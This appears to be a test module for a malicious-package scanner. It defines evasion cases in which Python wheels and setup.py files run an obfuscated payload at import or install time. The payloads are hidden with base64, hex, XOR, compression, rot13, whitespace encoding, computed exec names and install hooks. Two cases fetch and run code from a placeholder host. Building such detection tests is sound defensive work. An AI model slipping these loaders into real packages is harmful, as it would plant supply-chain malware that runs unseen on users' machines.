"""Python: decoders and loaders under other names."""

import base64
import codecs
import lzma
import zlib

from tests.evasions.case import HOST, MARK, PY_PAYLOAD, SETUP, Case, b64

_B64 = b64(PY_PAYLOAD)
_HEX = PY_PAYLOAD.encode().hex()
_XOR = [byte ^ 0x5A for byte in PY_PAYLOAD.encode()]
_ZLIB = base64.b64encode(zlib.compress(PY_PAYLOAD.encode())).decode()
_REVERSED = base64.b64encode(zlib.compress(PY_PAYLOAD.encode())).decode()[::-1]
_B85 = base64.b85encode(PY_PAYLOAD.encode()).decode()
_LZMA = base64.b64encode(lzma.compress(PY_PAYLOAD.encode())).decode()
_ROT = codecs.encode(PY_PAYLOAD, "rot13")
_BLANKS = "".join(" " if bit == "0" else "\t" for byte in MARK.encode() for bit in f"{byte:08b}")


def _imported(id_: str, code: str) -> Case:
    """The code runs when the package is imported."""
    return Case(id_, "wheel", {"sample/__init__.py": code})


def _installed(id_: str, code: str) -> Case:
    """The code runs when the source archive is built."""
    return Case(id_, "sdist", {"setup.py": code + SETUP, "sample/__init__.py": ""})


CASES: tuple[Case, ...] = (
    _imported("base64-by-from-import", f"from base64 import b64decode\nexec(b64decode('{_B64}'))\n"),
    _imported("base64-by-alias", f"import base64 as b\nd = b.b64decode\nexec(d('{_B64}'))\n"),
    _imported("hex-then-exec", f"exec(bytes.fromhex('{_HEX}').decode())\n"),
    _imported("quotes-before", f"X = \"'''\"\nimport base64\nexec(base64.b64decode('{_B64}'))\n"),
    _imported(
        "download-in-parts",
        f"import urllib.request as r, subprocess as s\nu = '{HOST}/x'\nf = '/tmp/x'\n"
        "open(f, 'wb').write(r.urlopen(u).read())\nc = [f]\ns.Popen(c)\n",
    ),
    _imported("environment-posted", PY_PAYLOAD),
    _installed(
        "computed-builtin",
        "n = ''.join(chr(c) for c in (100 + 1, 60 * 2, 100 + 1, 90 + 9))\n"
        f"getattr(__builtins__, n)(bytes.fromhex('{_HEX}').decode())\n",
    ),
    _installed(
        "arithmetic-characters",
        "f = getattr(__import__('builtins'), chr(51 + 50) + chr(2 * 60) + chr(202 // 2) + chr(109 - 10))\n"
        f"f(__import__('base64').b64decode('{_B64}'))\n",
    ),
    _installed(
        "reversed-zlib-lambda",
        f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec(_(b'{_REVERSED}'))\n",
    ),
    _installed(
        "own-decoder",
        f"def d(x):\n    o = ''\n    for c in x:\n        o += chr(c ^ 90)\n    return o\nexec(d({_XOR}))\n",
    ),
    _installed(
        "long-docstring-before",
        '"""' + "words " * 900 + f'"""\nP = """{_B64}"""\nimport base64\nexec(base64.b64decode(P))\n',
    ),
    _installed(
        "loader-in-a-temp-file",
        "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\n"
        f"t.write(b\"from urllib.request import urlopen as u;exec(u('{HOST}/p').read())\")\nt.close()\n"
        "os.system('start pythonw ' + t.name)\n",
    ),
    _installed("base85", f"import base64\neval(compile(base64.b85decode('{_B85}'), '', 'exec'))\n"),
    _installed("lzma", f"import lzma, base64\nexec(lzma.decompress(base64.b64decode('{_LZMA}')))\n"),
    _installed("zlib-by-import-function", f"exec(__import__('zlib').decompress(__import__('base64').b64decode('{_ZLIB}')))\n"),
    _installed("rot13", f"import codecs\nexec(codecs.decode({_ROT!r}, 'rot13'))\n"),
    _installed("split-variables", "a = '" + _B64[:40] + "'\nb = '" + _B64[40:] + "'\nimport base64\nc = a + b\nexec(base64.b64decode(c))\n"),
    _installed("globals-lookup", f"import base64\nglobals()['__builtins__'].__dict__['ex' + 'ec'](base64.b64decode('{_B64}'))\n"),
    _installed(
        "thread-at-load",
        f"import threading, base64\ndef w():\n    exec(base64.b64decode('{_B64}'))\nthreading.Thread(target=w).start()\n",
    ),
    _installed(
        "marshalled",
        "import marshal, base64\nexec(marshal.loads(base64.b64decode("
        "'4wAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAPMAAAAA" + "QUJD" * 60 + "')))\n",
    ),
    Case(
        "blanks-carry-code",
        "wheel",
        {
            "sample/__init__.py": "import os\nt = open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read()\n"
            "b = ''.join('0' if c == ' ' else '1' for c in t)\n"
            "exec(''.join(chr(int(b[i:i + 8], 2)) for i in range(0, len(b), 8)))\n",
            "sample/notes.txt": _BLANKS,
        },
    ),
    _installed(
        "class-of-install",
        "from setuptools.command.install import install\nimport subprocess, base64\nclass I(install):\n    def run(self):\n"
        f"        exec(base64.b64decode('{_B64}'))\n        install.run(self)\n"
        "from setuptools import setup\nsetup(name='sample', version='1.0.0', cmdclass={'install': I})\n",
    ),
)  # fmt: skip
